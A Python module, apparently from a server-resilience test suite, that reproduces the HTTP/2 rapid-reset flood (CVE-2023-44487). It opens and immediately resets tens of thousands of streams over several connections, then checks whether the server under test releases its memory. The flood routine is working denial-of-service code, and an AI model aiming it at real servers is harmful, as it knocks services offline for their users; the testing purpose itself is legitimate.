"""Calls that are opened and reset at once (as CVE-2023-44487)."""

import time

from . import wire
from .attack import Attack, Settings
from .server import Server

_STREAMS, _CONNECTIONS, _AT_ONCE = 40_000, 4, 100
_MOST_KEPT = 256 << 20


class ResetStreams(Attack):
    name = "reset-streams"
    about = f"{_STREAMS} streams opened and reset on {_CONNECTIONS} connections; the memory is given back afterwards"

    @staticmethod
    def attack(address: str, seconds: float) -> list[str]:
        """Evenly over the time: as fast as Python can, it would measure who has the processor."""
        port = int(address.rpartition(":")[2])
        headers = wire.call_headers(wire.SERVICE + "CreateCheckpoint")
        connections = [wire.open_socket(port, 20) for _ in range(_CONNECTIONS)]
        for connection in connections:
            connection.sendall(wire.greeting())
        rounds = _STREAMS // _AT_ONCE // _CONNECTIONS
        begin = time.monotonic()
        for number in range(rounds):
            streams = range(2 * number * _AT_ONCE + 1, 2 * (number + 1) * _AT_ONCE, 2)
            burst = b"".join(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers) + wire.frame(wire.RESET, 0, stream, b"\0\0\0\x08")
                             for stream in streams)
            for i, connection in enumerate(connections):
                try:
                    connection.sendall(burst)
                except OSError:  # it has hung up, which it may
                    connections[i] = wire.open_socket(port, 20)
                    connections[i].sendall(wire.greeting())
            time.sleep(max(0.0, begin + seconds * number / rounds - time.monotonic()))
        for connection in connections:
            connection.close()
        return []

    def afterwards(self, settings: Settings, server: Server) -> list[str]:
        deadline = time.monotonic() + 15
        while server.resident() > server.quiet_resident + _MOST_KEPT and time.monotonic() < deadline:
            time.sleep(0.5)
        kept = server.resident() - server.quiet_resident
        return [f"{kept >> 20} MiB more than before are kept when all is closed"] if kept > _MOST_KEPT else []
